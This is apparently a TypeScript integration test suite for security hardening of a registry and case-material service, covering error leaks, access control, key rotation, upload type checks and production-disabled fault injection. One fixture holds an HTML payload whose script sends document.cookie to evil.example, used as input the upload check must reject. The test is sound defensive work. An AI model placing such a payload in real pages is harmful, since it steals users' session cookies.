// Hardening item 9, small leaks. Each attack reached its target before (the request was answered or
// the state changed); each test shows the target is there and the attack now refused, storing nothing.
import { randomUUID } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { mintToken, publicJwkOf } from '@datarun/auth';
import { materialLinksOf } from '@datarun/transfers';
import { RegistryAppModule } from '../../apps/registry/src/app.module.js';
import { SandboxModule } from '../../apps/sandbox/src/app.module.js';
import { bootApp, type TestApp } from '../support/apps.js';
import { eventually } from '../support/eventually.js';
import { buildCity, type City, MATTER } from '../support/exchange.js';
import { testConfig } from '../support/infra.js';
import { keyPair, memberWithKey, registerMember, type TestMember } from '../support/members.js';
import { portAccepts } from '../support/net.js';
import { sha256 } from '../support/transfers.js';

/** The smallest PNG there is: signature, IHDR of a 1×1 image, IEND (the checker reads the signature). */
const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000' + '1f15c4890000000049454e44ae426082', 'hex');
const HTML = Buffer.from('<html><body><script>document.location="https://evil.example/?c="+document.cookie</script></body></html>');
const PDF = Buffer.from('%PDF-1.7\n% 不动产权证书 small-leaks\n%%EOF\n');

describe('small leaks', () => {
  let city: City;
  let citizen: () => Promise<string>;

  beforeAll(async () => {
    const idp = keyPair();
    const dir = mkdtempSync(join(tmpdir(), 'datarun-leaks-'));
    writeFileSync(join(dir, 'idp.pub.pem'), idp.publicKey.export({ type: 'spki', format: 'pem' }));
    city = await buildCity(40, { DATARUN_CITIZEN_IDP_PUBLIC_KEY: join(dir, 'idp.pub.pem') });
    citizen = async () =>
      `Bearer ${await mintToken({ issuer: 'citizen-idp', kid: 'citizen-idp', privateKey: idp.privateKey, subject: city.people[0].idNumber })}`;
  }, 120_000);
  afterAll(() => city?.close());

  describe('readiness names the failed dependency, never what it said', () => {
    it('keeps the database error (host, port, database, password) out of the public 503', async () => {
      // A port on which nothing listens: bound, then released.
      const port = await new Promise<number>((resolve) => {
        const server = net.createServer().listen(0, '127.0.0.1', () => {
          const { port: bound } = server.address() as net.AddressInfo;
          server.close(() => resolve(bound));
        });
      });
      expect(await portAccepts(port)).toBe(false);
      const url = `postgres://datarun_app:hunter2@127.0.0.1:${port}/secret_db_name`;
      const t = await bootApp(RegistryAppModule.forRoot(testConfig({ DATABASE_URL: url, DATABASE_OWNER_URL: '' })), 'registry');
      try {
        const res = await t.http.get('/health/ready').expect(503);
        expect(res.body).toMatchObject({ code: 'SERVICE_UNAVAILABLE', failed: ['database'], checks: { database: { status: 'down' } } });
        const text = JSON.stringify(res.body);
        for (const leak of ['ECONNREFUSED', String(port), 'secret_db_name', 'hunter2', 'connect']) expect(text).not.toContain(leak);
      } finally {
        await t.close();
      }
    });
  });

  describe('registry reads need a member, not a citizen', () => {
    it.each(['/v1/catalog', '/v1/sources/household', '/v1/matters', `/v1/matters/${MATTER}`, '/v1/members/datarun.admin'])(
      'GET %s: 200 for a member, 403 ROLE_FORBIDDEN for a citizen token',
      async (path) => {
        await city.registry.http
          .get(path)
          .set('authorization', await city.hall.auth())
          .expect(200);
        const res = await city.registry.http
          .get(path)
          .set('authorization', await citizen())
          .expect(403);
        expect(res.body.code).toBe('ROLE_FORBIDDEN');
      },
    );
  });

  describe('a grant the caller may not see does not exist for them', () => {
    it('answers an auditor and a citizen 404 GRANT_NOT_FOUND for a real grant, exactly as for none', async () => {
      const grant = city.grants.household;
      await city.registry.http
        .get(`/v1/grants/${grant}`)
        .set('authorization', await city.admin.auth())
        .expect(200);
      const auditor = await registerMember(city.registry, city.admin, 'auditor', 'zj.test.leaks-auditor');
      for (const auth of [await auditor.auth(), await citizen()]) {
        const real = await city.registry.http.get(`/v1/grants/${grant}`).set('authorization', auth).expect(404);
        const none = await city.registry.http.get(`/v1/grants/${randomUUID()}`).set('authorization', auth).expect(404);
        expect([real.body.code, real.body.title]).toEqual([none.body.code, none.body.title]);
        expect(real.body.code).toBe('GRANT_NOT_FOUND');
      }
    });
  });

  describe("the administrator key from configuration and the administrator's rotation", () => {
    it('a restart keeps the keys the administrator rotated in, and puts the configured key back', async () => {
      const rotated = keyPair();
      const admin2 = memberWithKey('datarun.admin', 'admin', rotated, 'admin-2026');
      // The administrator replaces the configured key by a new one: the configured one retires.
      const put = await city.registry.http
        .put('/v1/members/datarun.admin/keys')
        .set('authorization', await city.admin.auth())
        .send({ keys: [publicJwkOf(rotated.publicKey, 'admin-2026')] })
        .expect(200);
      expect(put.body.jwks.keys.map((k: { kid: string; exp?: number }) => [k.kid, k.exp !== undefined])).toEqual([
        ['admin-2026', false],
        ['admin', true],
      ]);
      const restarted = await bootApp(RegistryAppModule.forRoot(city.db.config), 'registry');
      try {
        const member = await eventually('the registry to seed the configured key again', async () => {
          const res = await restarted.http
            .get('/v1/members/datarun.admin')
            .set('authorization', await admin2.auth())
            .expect(200);
          return res.body.jwks.keys.find((k: { kid: string; exp?: number }) => k.kid === 'admin' && k.exp === undefined) && res.body;
        });
        expect(member.jwks.keys.map((k: { kid: string }) => k.kid).sort()).toEqual(['admin', 'admin-2026']);
        for (const who of [admin2, city.admin]) {
          await restarted.http
            .get('/v1/members')
            .set('authorization', await who.auth())
            .expect(200);
        }
      } finally {
        await restarted.close();
      }
    });
  });

  describe("a member's key rotation overlaps, and a removal is at once", () => {
    let dept: TestMember;
    const k2 = keyPair();
    beforeAll(async () => {
      dept = await registerMember(city.registry, city.admin, 'department', 'zj.test.leaks-rotating');
    });

    it('keeps the replaced key valid for the overlap; DELETE ends it at once; the last key stays', async () => {
      const oldToken = await dept.auth();
      const rotated = memberWithKey(dept.id, 'department', k2, 'k2');
      const put = await city.registry.http
        .put(`/v1/members/${dept.id}/keys`)
        .set('authorization', oldToken)
        .send({ keys: [publicJwkOf(k2.publicKey, 'k2')] })
        .expect(200);
      const retiring = put.body.jwks.keys.find((k: { kid: string }) => k.kid === dept.kid);
      expect(retiring.exp - Date.now() / 1000).toBeGreaterThan(3500);
      // A token signed just before the rotation still works: before, the rotation refused it at once.
      await city.registry.http.get('/v1/catalog').set('authorization', oldToken).expect(200);
      await city.registry.http
        .get('/v1/catalog')
        .set('authorization', await rotated.auth())
        .expect(200);

      const removed = await city.registry.http
        .delete(`/v1/members/${dept.id}/keys/${dept.kid}`)
        .set('authorization', await rotated.auth())
        .expect(200);
      expect(removed.body.jwks.keys.map((k: { kid: string }) => k.kid)).toEqual(['k2']);
      expect((await city.registry.http.get('/v1/catalog').set('authorization', oldToken).expect(401)).body.code).toBe('TOKEN_INVALID');

      const last = await city.registry.http
        .delete(`/v1/members/${dept.id}/keys/k2`)
        .set('authorization', await rotated.auth())
        .expect(409);
      expect(last.body.code).toBe('STATE_CONFLICT');
      const gone = await city.registry.http
        .delete(`/v1/members/${dept.id}/keys/${dept.kid}`)
        .set('authorization', await rotated.auth())
        .expect(404);
      expect(gone.body.code).toBe('KEY_NOT_FOUND');
      const other = await registerMember(city.registry, city.admin, 'department', 'zj.test.leaks-other');
      await city.registry.http
        .delete(`/v1/members/${dept.id}/keys/k2`)
        .set('authorization', await other.auth())
        .expect(403);
    });

    it('stops honouring a key at the exp the member gave it', async () => {
      const k3 = keyPair();
      const byK2 = memberWithKey(dept.id, 'department', k2, 'k2');
      const exp = Math.floor(Date.now() / 1000) + 3;
      const put = await city.registry.http
        .put(`/v1/members/${dept.id}/keys`)
        .set('authorization', await city.admin.auth())
        .send({ keys: [publicJwkOf(k3.publicKey, 'k3'), { ...publicJwkOf(k2.publicKey, 'k2'), exp }] })
        .expect(200);
      expect(put.body.jwks.keys.find((k: { kid: string }) => k.kid === 'k2').exp).toBe(exp);
      await city.registry.http
        .get('/v1/catalog')
        .set('authorization', await byK2.auth())
        .expect(200);
      await eventually(
        'a token signed with k2 to be refused once its exp passed',
        async () => (await city.registry.http.get('/v1/catalog').set('authorization', await byK2.auth())).status === 401,
        { timeoutMs: 15_000 },
      );
      expect(Date.now() / 1000).toBeGreaterThanOrEqual(exp);
    }, 30_000);
  });

  describe('materials are what their content-type says, and are served as attachments', () => {
    it('refuses HTML uploaded as an image or a PDF (415 MATERIAL_TYPE_MISMATCH, nothing stored); serves a PDF with nosniff and attachment', async () => {
      const [seller, buyer] = city.people;
      const opened = await city.gateway.http
        .post('/v1/cases')
        .set('authorization', await city.hall.auth())
        .send({
          matter: MATTER,
          parties: [
            { idNumber: seller.idNumber, name: seller.name, role: 'seller' },
            { idNumber: buyer.idNumber, name: buyer.name, role: 'buyer' },
          ],
          property: { unitNumber: 'LEAKS-1', address: '演示市 LEAKS-1 号' },
          utilityAccounts: { water: 'W-LEAKS-1', electricity: 'E-LEAKS-1', gas: 'G-LEAKS-1' },
          materials: [
            { type: 'transfer-contract', sha256: sha256(HTML) },
            { type: 'id-card', sha256: sha256(PNG) },
            { type: 'property-certificate', sha256: sha256(PDF) },
          ],
        })
        .expect(201);
      const caseId: string = opened.body.id;
      const upload = async (type: string, contentType: string, bytes: Buffer, status: number) =>
        city.gateway.http
          .put(`/v1/cases/${caseId}/materials/${type}`)
          .set('authorization', await city.hall.auth())
          .set('content-type', contentType)
          .send(bytes)
          .expect(status);
      const stored = async () => Number((await city.db.ownerQuery('SELECT count(*) FROM case_material WHERE case_id = $1', [caseId])).rows[0].count);

      for (const contentType of ['image/png', 'application/pdf', 'image/jpeg']) {
        const refused = await upload('transfer-contract', contentType, HTML, 415);
        expect(refused.body.code).toBe('MATERIAL_TYPE_MISMATCH');
      }
      // A real PNG is not a PDF either: the declared type must be the bytes' type.
      expect((await upload('id-card', 'application/pdf', PNG, 415)).body.code).toBe('MATERIAL_TYPE_MISMATCH');
      expect(await stored()).toBe(0);
      await upload('id-card', 'image/png', PNG, 200);
      await upload('property-certificate', 'application/pdf', PDF, 200);
      expect(await stored()).toBe(2);

      await city.gateway.http
        .post(`/v1/cases/${caseId}/complete`)
        .set('authorization', await city.hall.auth())
        .expect(200);
      const [request] = (
        await city.db.ownerQuery<{ request_id: string; payload: { materials: Array<{ materialId: string }> } }>(
          `SELECT request_id, payload FROM transfer_request WHERE case_id = $1 AND recipient = $2`,
          [caseId, city.utilities.water.id],
        )
      ).rows;
      // Fetched as the recipient does: under its own token, through a link issued to it.
      const link = materialLinksOf(city.db.config).url({
        materialId: request.payload.materials[0].materialId,
        requestId: request.request_id,
        recipient: city.utilities.water.id,
        expiresAt: Math.floor(Date.now() / 1000) + 600,
      });
      const fetched = await city.gateway.http
        .get(new URL(link).pathname + new URL(link).search)
        .set('authorization', await city.utilities.water.auth('system'))
        .expect(200);
      expect(fetched.headers['content-type']).toBe('application/pdf');
      expect(fetched.headers['x-content-type-options']).toBe('nosniff');
      expect(fetched.headers['content-disposition']).toBe(`attachment; filename="property-certificate.pdf"; filename*=UTF-8''property-certificate.pdf`);
    });
  });

  describe("the sandbox's fault injection", () => {
    const routes = ['/v1/utilities/gas/outage', '/v1/utilities/gas/latency'];
    const bodies = [{ seconds: 0 }, { ms: 0 }];

    it.each([
      ['test', 204],
      ['production', 404],
    ])('with NODE_ENV=%s answers %i', async (env, status) => {
      const sandbox = await bootApp(SandboxModule.forRoot(testConfig({ NODE_ENV: env })), 'sandbox');
      const fastify = sandbox.app.getHttpAdapter().getInstance();
      try {
        // The simulated utility itself is there in both.
        expect((await fastify.inject({ method: 'GET', url: '/v1/utilities/gas' })).statusCode).toBe(200);
        for (const [i, url] of routes.entries()) {
          const res = await fastify.inject({ method: 'POST', url, payload: bodies[i] });
          expect([url, res.statusCode]).toEqual([url, status]);
        }
        expect(sandbox.openApi.paths['/v1/utilities/{kind}/outage'] !== undefined).toBe(env !== 'production');
      } finally {
        await sandbox.close();
      }
    });
  });
});
